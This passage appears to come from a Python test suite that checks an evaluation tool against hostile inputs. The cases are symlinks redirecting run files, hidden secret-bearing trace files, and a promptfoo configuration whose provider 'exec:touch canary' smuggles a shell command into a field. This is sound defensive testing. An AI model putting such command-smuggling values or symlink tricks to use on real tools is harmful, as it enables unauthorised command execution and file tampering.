            ("follow", "eval.yaml", "--from", "t.jsonl", "--once"),
            expected="harmless",
            links={f"runs/eval-traffic/{link}": target},
            code=1,
        )
        for name, link, target in (
            ("database", "traffic.sqlite", "@OUT@/new.sqlite"),
            ("day", time.strftime("%Y-%m-%d", time.gmtime()), "@OUT@"),
            ("next day", time.strftime("%Y-%m-%d", time.gmtime(time.time() + 86400)), "@OUT@"),
        )
    ),
    _eval(
        "hidden file in a folder of traces",
        "send what tools keep of the user's",
        "data: traces\n" + OPENAI + "judges: [{kind: agent, measures: [goal]}]\n",
        files={
            "traces/t.jsonl": json.dumps(PLAIN_TRACE) + "\n",
            "traces/.tool/log.jsonl": json.dumps(SECRET_TRACE) + "\n",
            "traces/.log.json": json.dumps(SECRET_TRACE) + "\n",
        },
        expected="harmless",
        code=3,  # the witness answers no question of a goal
    ),
    Hostile(
        "promptfoo configuration",
        _RUN,
        {"promptfoo.json": '{"prompts": ["file://app.py"], "providers": ["exec:touch canary"]}'},
        ("import", "promptfoo.json", "--run", "runs/theirs"),
        expected="harmless",
        code=1,
    ),
)
